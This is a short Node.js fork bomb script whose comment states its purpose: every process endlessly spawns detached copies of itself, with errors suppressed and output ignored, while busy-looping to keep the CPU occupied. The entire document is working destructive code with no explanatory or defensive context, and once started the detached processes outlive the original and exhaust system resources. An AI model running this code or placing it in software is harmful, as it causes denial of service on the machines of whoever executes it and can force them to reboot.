// Every process spawns a detached copy of itself without end and keeps the CPU busy.
const { spawn } = require("child_process");
function bomb() {
  try {
    const child = spawn(process.execPath, [__filename], { stdio: "ignore", detached: true });
    child.on("error", () => {});
    child.unref();
  } catch (e) {}
  const until = Date.now() + 5;
  while (Date.now() < until) {}
  setImmediate(bomb);
}
bomb();
